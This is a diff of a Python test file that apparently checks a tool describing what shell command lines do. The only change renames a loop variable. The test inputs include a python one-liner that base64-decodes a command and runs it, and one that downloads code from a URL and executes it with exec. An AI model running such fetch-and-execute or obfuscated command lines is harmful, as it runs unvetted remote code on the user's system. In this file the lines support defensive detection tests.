@@ -155,7 +155,7 @@ def test_runs_nothing_but_itself(line: str):
     ],
 )
 def test_bytes_from_elsewhere_are_run(line: str, effect: str):
-    assert any(told.endswith(effect) for told in effects_in(line))
+    assert any(described.endswith(effect) for described in effects_in(line))
 
 
 @pytest.mark.parametrize(
@@ -214,7 +214,7 @@ def test_truncate_with_an_option_is_a_program():
 def test_code_that_hides_its_command_is_run_from_something_decoded():
     line = "python -c 'import os, base64; os.system(base64.b64decode(\"bHM=\"))'"
 
-    assert any(told.endswith("from decoded") for told in effects_in(line))
+    assert any(described.endswith("from decoded") for described in effects_in(line))
 
 
 def test_code_that_deletes_what_only_the_run_knows_names_no_file():
@@ -224,7 +224,7 @@ def test_code_that_deletes_what_only_the_run_knows_names_no_file():
 def test_code_that_fetches_and_evaluates_runs_what_is_remote():
     line = "python -c \"import urllib.request as u; exec(u.urlopen('http://h').read())\""
 
-    assert any("from remote" in told for told in effects_in(line))
+    assert any("from remote" in described for described in effects_in(line))
 
 
 def test_code_that_reads_a_secret_and_sends_is_noted():
